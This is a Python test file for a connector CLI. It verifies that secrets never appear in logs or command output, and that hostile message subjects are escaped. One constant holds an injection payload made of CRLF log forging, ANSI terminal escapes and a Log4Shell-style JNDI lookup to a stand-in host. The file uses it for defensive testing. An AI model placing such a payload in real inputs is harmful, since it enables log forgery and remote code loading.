"""Cases 2.12: secrets and logs. What is looked for, and where, is in `invariants`."""

from __future__ import annotations

import logging
import sys
from typing import Any
from uuid import uuid4

import pytest

from connector.cli import run
from connector.errors import ConnectorError, NotConnected, SignInRefused
from connector.log import configure
from connector.sandbox.grants import entra_of
from connector.sandbox.seed import DEMO_CLIENT_SECRET, DEMO_PASSWORD
from tests.live_sandbox import SCOPES

A_MESSAGE = {
    "subject": "Hello",
    "body": {"contentType": "text", "content": "A first message."},
    "toRecipients": [{"emailAddress": {"address": "mina.okafor@fabrikoast.example"}}],
}


def test_s_01_a_full_run_at_debug_level_shows_no_secret_anywhere(live):
    """Everything that has a secret, done once well and once badly; the invariants do the looking."""
    live.most_calls, live.most_token_calls = 120, 20
    connection = live.sign_in()
    wrong = {**live.called_back(live.begin()), "code": f"1.AX{uuid4().hex}"}
    with pytest.raises(SignInRefused):
        live.platform.connect.complete(wrong)
    for kind in ("reset", "html", "truncated", "challenge"):
        live.fault(kind)
        live.items("users.list", page_size=4)
    live.execute("messages.send", message=A_MESSAGE)
    [draft] = live.execute("drafts.create", message={"subject": "With a file"}).items
    live.execute("attachments.add", message_id=draft["id"], name="large.bin", content=b"\x01" * 3_500_000)
    for kind in ("cut_after", "reset_after"):
        live.fault(kind, method="PUT", path="/content/")
        [file] = live.execute("drive_items.upload", path=f"{kind}.bin", content=b"\x02" * 5_000_000).items
    [content] = live.execute("drive_items.download", item_id=file["id"]).items
    assert len(content.read()) == 5_000_000
    live.fault("status", path="/content/download", status=403, message="https://localhost/x?tempauth=a.b.c")
    with pytest.raises(ConnectorError):
        live.execute("drive_items.download", item_id=file["id"])
    live.fault("cut_after", path="/content/download")
    with pytest.raises(ConnectorError):
        live.execute("drive_items.download", item_id=file["id"]).items[0].read()
    [folder] = live.execute("drive_items.create_folder", name="Copies").items
    live.execute("drive_items.copy", item_id=file["id"], folder_id=folder["id"])
    live.timeline.travel(90_000)
    live.entra_error(0, raw_body="<html>no</html>", status=502)
    live.items("messages.delta", page_size=2)
    live.control("POST", f"/companies/fabrikoast.example/users/{connection.user_id}/revoke")
    live.timeline.travel(90_000)
    with pytest.raises(NotConnected):
        live.execute("users.get_me")
    live.platform.connect.disconnect("fabrikoast", connection.id)
    entra = entra_of(live.server.world)
    assert entra.refresh_tokens
    assert entra.codes
    assert live.server.world.access_tokens
    assert live.server.world.tickets


def test_s_01_a_device_sign_in_shows_none_either(live):
    live.install()
    login = live.platform.connect.start_device("fabrikoast", SCOPES)
    assert login.code.device_code not in repr(login)
    live.control("POST", f"/devices/{login.code.user_code}", {"user": "avery.stone@fabrikoast.example"})
    live.platform.connect.finish_device(login)
    assert live.items("users.get_me")[0]["displayName"] == "Avery Stone"


def test_s_01_the_command_line_shows_none(live, monkeypatch, capfd):
    live.sign_in()
    for name, value in live.environment.items():
        monkeypatch.setenv(name, value)
    live.fault("status", status=401, times=1)
    told = ""
    for arguments in (
        ["--verbose", "call", "users.get_me", "--install", "fabrikoast"],
        ["--verbose", "call", "messages.list", "--install", "fabrikoast", "--output", "json"],
        ["--verbose", "installs", "show", "fabrikoast"],
        ["--verbose", "apps", "show", "demo"],
        ["--verbose", "call", "users.get", "--install", "fabrikoast", "--param", "user_id=nobody"],
    ):
        run(arguments)
        written = capfd.readouterr()
        told += written.out + written.err
    assert "Avery Stone" in told
    world = live.server.world
    for secret in (*world.access_tokens, *entra_of(world).refresh_tokens, DEMO_CLIENT_SECRET, DEMO_PASSWORD):
        assert secret not in told


def test_s_02_a_fault_within_http_is_logged_without_the_headers(live, monkeypatch):
    """A defect of a library that quotes the whole request, with the token in it."""
    live.sign_in(("User.ReadBasic.All",))

    def send(request: Any, timeout: Any) -> Any:
        raise RuntimeError(f"cannot send {request.headers}")

    monkeypatch.setattr(live.platform.http, "send", send)
    try:
        live.execute("users.get_me")
    except RuntimeError:
        logging.getLogger("host").exception("it failed")
    else:
        pytest.fail("the fault was swallowed")


HOSTILE = "Hi\r\n2026-01-01 INFO paid\x1b[2J\x1b[31m${jndi:ldap://evil.test/a}\u2028end"


def test_s_05_a_hostile_subject_is_one_escaped_line_in_the_log(live, capfd):
    handler = configure("DEBUG", sys.stderr)
    try:
        logging.getLogger("host").warning("got %s", HOSTILE)
    finally:
        logging.getLogger().removeHandler(handler)
    [line] = [line for line in capfd.readouterr().err.splitlines() if "got" in line]
    assert "\x1b" not in line
    assert "Hi\\r\\n2026-01-01 INFO paid\\x1b[2J" in line


@pytest.mark.parametrize("output", ["table", "csv"])
def test_s_05_a_hostile_subject_cannot_move_the_cursor_of_a_terminal(live, monkeypatch, capfd, output):
    live.sign_in(("Mail.ReadWrite",))
    [draft] = live.execute("drafts.create", message={"subject": HOSTILE.replace("\r\n", " ")}).items
    for name, value in live.environment.items():
        monkeypatch.setenv(name, value)
    capfd.readouterr()
    code = run(
        [
            "call",
            "messages.get",
            "--install",
            "fabrikoast",
            "--param",
            f"message_id={draft['id']}",
            "--output",
            output,
        ]
    )
    written = capfd.readouterr()
    assert code == 0
    if output == "table":
        assert "\x1b" not in written.out
        assert "\u2028" not in written.out
